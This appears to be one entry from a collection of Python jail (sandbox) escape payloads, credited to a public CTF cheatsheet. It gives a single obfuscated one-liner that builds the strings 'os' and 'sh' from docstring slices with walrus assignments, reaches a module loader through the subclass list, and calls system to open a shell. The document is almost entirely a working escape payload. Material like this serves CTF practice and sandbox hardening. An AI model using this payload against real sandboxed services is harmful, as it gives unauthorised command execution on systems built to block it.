# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (no quotes: slice letters out of ().__doc__ with walrus)
# Family: walrus
# What: walrus assigns docstring slices to build 'os' and 'sh' without quote characters
[y := ().__doc__, a := y[19], ().__class__.__mro__[1].__subclasses__()[107].load_module(y[34] + a).system(a + y[56])]
